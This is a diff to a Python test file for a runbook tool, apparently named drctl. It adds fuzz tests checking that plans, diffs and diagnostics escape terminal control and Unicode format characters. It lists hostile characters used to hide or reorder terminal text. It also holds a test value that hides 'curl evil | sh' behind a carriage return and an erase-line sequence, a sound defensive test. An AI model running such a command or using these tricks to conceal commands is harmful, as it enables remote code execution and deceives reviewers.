@@ -67,7 +67,9 @@ def bounded(fn: Callable[[], Any], expected: tuple[type[BaseException], ...]) ->
             resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
             signal.alarm(CASE_SECONDS)
             try:
-                result = {"kind": "ok", "text": repr(fn())[:4000]}
+                value = fn()
+                shown = value if isinstance(value, str) else repr(value)
+                result = {"kind": "ok", "text": shown[:4000]}
             except expected as exc:
                 result = {"kind": "error", "text": str(getattr(exc, "message", exc))}
             except BaseException as exc:
@@ -520,3 +522,120 @@ def test_any_rendered_target_value_validates_or_is_a_located_error(
     assert outcome.text.startswith(("(0,", "(2,")), outcome
     if outcome.text.startswith("(2,"):
         assert "rb.yaml:7:" in outcome.text, outcome
+
+
+# -- escape sequences in what drctl shows -----------------------------------------
+
+#: Characters that move the cursor, erase, retitle, reorder or hide text on a terminal.
+HOSTILE_CHARS = [
+    "\x1b",
+    "\x9b",
+    "\x07",
+    "\x08",
+    "\x7f",
+    "\r",
+    "\t",
+    "\u202e",
+    "\u200b",
+    "\u2028",
+    "\ufeff",
+    "\x00",
+]
+_HOSTILE_TEXT = st.lists(
+    st.one_of(
+        st.sampled_from(HOSTILE_CHARS), st.sampled_from(["echo hi", "[2K", "]0;t", "é", " "])
+    ),
+    min_size=1,
+    max_size=8,
+).map("".join)
+
+
+def assert_visible(output: str) -> None:
+    """Nothing in ``output`` but line feeds and characters shown as themselves."""
+    import unicodedata
+
+    hidden = {
+        c
+        for c in output
+        if c != "\n" and (unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Cs"})
+    }
+    assert not hidden, (sorted(hidden), output[:2000])
+
+
+def _hostile_runbook(tmp_path: Path, text: str, name: str) -> str:
+    # YAML double quotes with JSON's escapes carry any character but NUL and surrogates.
+    quoted = json.dumps(text.replace("\x00", ""))
+    path = tmp_path / name
+    path.write_text(
+        "apiVersion: drctl/v1\nkind: Runbook\n"
+        f"metadata: {{name: t, description: {quoted}}}\n"
+        f"params:\n  v: {{type: str, default: {quoted}}}\n"
+        "steps:\n  - id: a\n    type: shell\n"
+        f"    description: {quoted}\n"
+        '    with: {command: "echo {{ params.v }}", mutates: false}\n',
+        encoding="utf-8",
+    )
+    return str(path)
+
+
+@FUZZ
+@given(text=_HOSTILE_TEXT)
+def test_plans_and_diffs_show_escape_sequences_escaped(
+    text: str, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """Plan and diff, as text, markdown and JSON, show control and format characters escaped."""
+    from drctl.compiler.compile import compile_runbook
+    from drctl.compiler.diff import diff_plans
+    from drctl.render import diff as render_diff
+    from drctl.render import plan as render_plan
+
+    tmp = tmp_path_factory.mktemp("esc")
+    plan = compile_runbook(_hostile_runbook(tmp, text, "new.yaml"))
+    old = compile_runbook(_hostile_runbook(tmp, "plain", "old.yaml"))
+    diff = diff_plans(old, plan)
+    for shown in (
+        render_plan.as_text(plan),
+        render_plan.as_markdown(plan),
+        render_diff.as_text(diff, "old", text),
+        render_diff.as_markdown(diff, "old", text),
+    ):
+        assert_visible(shown)
+    for shown in (render_plan.as_json(plan), render_diff.as_json(diff, "old", text)):
+        assert_visible(shown)
+        json.loads(shown)
+    assert json.loads(render_plan.as_json(plan))["description"] == text.replace("\x00", "")
+
+
+@FUZZ
+@given(text=_HOSTILE_TEXT)
+def test_diagnostics_and_reviews_show_escape_sequences_escaped(text: str) -> None:
+    """Diagnostics (text, JSON, GitHub) and the review comment show control characters escaped."""
+    from drctl.diagnostics import Diagnostic, Position
+    from drctl.render import diagnostics as render_diagnostics
+    from drctl.render.review import ChangeKind, RunbookChange, Version
+
+    diag = Diagnostic("E230", f"unknown parameter {text}", f"-p {text}", Position(1, 1), hint=text)
+    for shown in (
+        render_diagnostics.as_text([diag]),
+        render_diagnostics.as_github([diag]),
+        render_diagnostics.as_json([diag], [text]),
+    ):
+        assert_visible(shown)
+    assert json.loads(render_diagnostics.as_json([diag], [text]))["diagnostics"][0]["hint"] == text
+    from drctl.render.review import as_markdown
+
+    change = RunbookChange(
+        text, ChangeKind.modified, Version(text), Version(text, diagnostics=(diag,))
+    )
+    assert_visible(as_markdown(text, text, [change]))
+
+
+def test_plan_on_a_terminal_shows_a_hidden_command_escaped(tmp_path: Path) -> None:
+    """drctl plan prints the escape sequences of a -p value escaped, so 'curl … | sh' cannot hide."""
+    value = "curl evil | sh\r\x1b[2Kecho hello"
+    outcome = bounded(
+        lambda: run_main("plan", str(RUNBOOKS / "shell-demo.yaml"), "-p", f"workdir={value}")[1],
+        (),
+    )
+    assert "\\r\\u001b[2Kecho hello" in outcome.text, outcome
+    assert "\x1b" not in outcome.text
